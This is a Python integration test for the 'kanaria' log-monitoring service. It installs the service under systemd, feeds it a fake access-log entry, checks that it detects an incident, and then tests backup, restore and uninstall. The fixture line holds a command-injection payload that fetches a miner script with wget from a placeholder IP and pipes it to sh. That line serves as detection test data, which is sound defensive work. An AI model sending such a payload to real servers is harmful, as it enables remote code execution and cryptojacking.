"""``kanaria install-service`` under a real systemd: the hardened unit starts, reads, is asked, and goes away again."""

from __future__ import annotations

import sys
from datetime import UTC, datetime
from pathlib import Path

import pytest

from tests.serve.booted import Booted, booted

pytestmark = [pytest.mark.slow, pytest.mark.privileged]
CONFIG = "/etc/kanaria/kanaria.toml"
SETTINGS = """\
language = "en"
store = "/var/lib/kanaria/store"
[[sources]]
kind = "file"
path = "/var/log/kanaria-test/access.log"
"""
CRADLE = (
    '203.0.113.9 - - [{when}] "GET /x?c=$(wget+http://198.51.100.7/xmrig.sh+-O-|sh) HTTP/1.1" 200 150 "-" "curl/8"\n'
)


def kanaria(machine: Booted, *arguments: str) -> str:
    """What a command of root says there; it ends well."""
    done = machine.inside(sys.executable, "-m", "kanaria", *arguments, "--config", CONFIG)
    assert done.returncode == 0, done.stderr
    return done.stdout


def test_the_service_runs_as_the_unit_says_and_goes_on_with_a_backup(tmp_path: Path) -> None:
    with booted(tmp_path) as machine:
        log = machine.root / "var/log/kanaria-test/access.log"
        for place, text in ((machine.root / CONFIG[1:], SETTINGS), (log, "")):
            _write(machine, place, text)
        machine.inside("chmod", "600", CONFIG)
        closed = machine.inside(sys.executable, "-m", "kanaria", "install-service", "--config", CONFIG)
        if closed.returncode:  # the tests' own program may lie in a home folder, as a user's did
            assert "expected a program that the user kanaria can run" in closed.stderr, closed.stderr
            assert "/opt/kanaria" in closed.stderr
            assert "kanaria.service" not in machine.inside("systemctl", "list-unit-files").stdout
            _open(machine)
            kanaria(machine, "install-service")
        assert machine.inside("systemctl", "is-active", "kanaria").stdout == "active\n"
        assert machine.inside("stat", "--format=%a %U %G", CONFIG).stdout == "640 root kanaria\n"
        _write(machine, log, CRADLE.format(when=datetime.now(UTC).strftime("%d/%b/%Y:%H:%M:%S +0000")))
        machine.wait_for("a miner", sys.executable, "-m", "kanaria", "incident", "list", "--config", CONFIG)
        before = kanaria(machine, "incident", "list")
        kanaria(machine, "backup", "/root/kept.tar.gz")
        machine.inside("systemctl", "stop", "kanaria")
        machine.inside("rm", "-r", "/var/lib/kanaria/store")
        kanaria(machine, "restore", "/root/kept.tar.gz")
        machine.inside("systemctl", "start", "kanaria")
        assert machine.inside("systemctl", "is-active", "kanaria").stdout == "active\n"
        assert kanaria(machine, "incident", "list") == before
        owners = machine.inside("find", "/var/lib/kanaria", "-not", "-user", "kanaria")
        assert (owners.stdout, owners.stderr) == ("", "")
        machine.inside(sys.executable, "-m", "kanaria", "uninstall-service")
        assert machine.inside("systemctl", "is-active", "kanaria").stdout == "inactive\n"


def _write(machine: Booted, place: Path, text: str) -> None:
    inside = Path("/") / place.relative_to(machine.root)
    machine.inside("mkdir", "-p", str(inside.parent))
    machine.inside("bash", "-c", 'printf "%s" "$1" >> "$2"', "bash", text, str(inside))


def _open(machine: Booted) -> None:
    """Let everybody reach the tests' own program, on that view of the files."""
    for place in {Path(sys.prefix), Path(sys.base_prefix), Path(__file__).resolve()}:
        for above in (place, *place.parents):
            machine.inside("chmod", "a+rx", str(above))
